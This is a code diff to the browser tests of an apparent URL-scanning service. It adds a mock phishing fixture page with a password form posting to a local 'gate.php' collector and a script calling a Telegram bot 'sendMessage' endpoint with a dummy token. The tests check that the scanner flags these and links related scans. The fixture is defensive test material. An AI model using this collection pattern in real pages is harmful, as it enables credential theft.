@@ -26,6 +26,10 @@ describe("the pages of URL scans", () => {
         response
           .writeHead(200, { "content-type": "text/html" })
           .end(`<!doctype html><html lang="en"><title>Changing page</title><h1>Changing page</h1><p>${text}</p>`),
+      "/collecting": `<!doctype html><html lang="en"><title>Collecting page</title><h1>Mail</h1>
+        <form method="post" action="http://collect.localhost:9102/gate.php"><input type="password" name="p"></form>
+        <script>const bot = () => fetch("https://api.telegram.org/bot7123456789:AA${"q".repeat(33)}/sendMessage")</script>
+        <script>var _gaq = "UA-73512345-2"</script>`,
       "/app.js": (_request, response) =>
         response.writeHead(200, { "content-type": "text/javascript" }).end("globalThis.app = 1;"),
     });
@@ -211,6 +215,48 @@ describe("the pages of URL scans", () => {
         .getByRole("link", { name: site.at("/"), exact: true })
         .first(),
     ).toBeVisible();
+  });
+
+  it("lead on from who takes what is typed, and from a title and a tracker, to the scans that have it", async ({
+    skip,
+  }) => {
+    skip(off !== null, off ?? "");
+    const page = await pages.goOn("/scan");
+    await scan(page, site.at("/collecting"));
+    const artifacts = region(page, "Artifacts");
+    await artifacts.waitFor({ timeout: 60_000 });
+    const shown = (await artifacts.textContent()) ?? "";
+    expect(shown).toMatch(/Posts to.*http:\/\/collect\.localhost:9102\/gate\.php/s);
+    expect(shown).toMatch(/https:\/\/api\.telegram\.org\/bot7123…qqqq\/sendMessage/);
+    const address = pathOf(page);
+    await artifacts.getByRole("link", { name: "scans that post there" }).first().click();
+    const link = page.getByRole("main").getByRole("link", { name: site.at("/collecting"), exact: true });
+    await expect(link.first()).toBeVisible();
+    expect(await page.getByRole("main").textContent()).toContain("http://collect.localhost:9102/gate.php");
+
+    for (const [kind, value, words] of [
+      ["text", "Collecting page", "Scans with the same title"],
+      ["tracker", "UA-73512345-2", "Scans with the same tracker"],
+      ["text", "UA-73512345-2", "Scans with the same tracker"],
+    ] as const) {
+      await goWithin(page, `/pivot?kind=${kind}&value=${encodeURIComponent(value)}`);
+      await expect(
+        region(page, "URL scans").getByRole("region", { name: words }).getByRole("link").first(),
+      ).toBeVisible();
+      expect(await page.getByRole("article").getByRole("region").first().getAttribute("aria-label")).toBe("URL scans");
+    }
+    expect(await faultsInTheme(page)).toEqual([]);
+    await goWithin(page, "/pivot?kind=text&value=No%20page%20has%20this");
+    await expect(page.getByText("None of the scans that you may see has it.")).toBeVisible();
+
+    await goWithin(page, "/search?input=collect.localhost&type=domain");
+    await expect(
+      region(page, "URL scans")
+        .getByRole("link", { name: site.at("/collecting") })
+        .first(),
+    ).toBeVisible();
+    await goWithin(page, address);
+    await expect(artifacts).toBeVisible();
   });
 
   itInSoak("stand on the pages of the addresses that they reached", async ({ skip }) => {
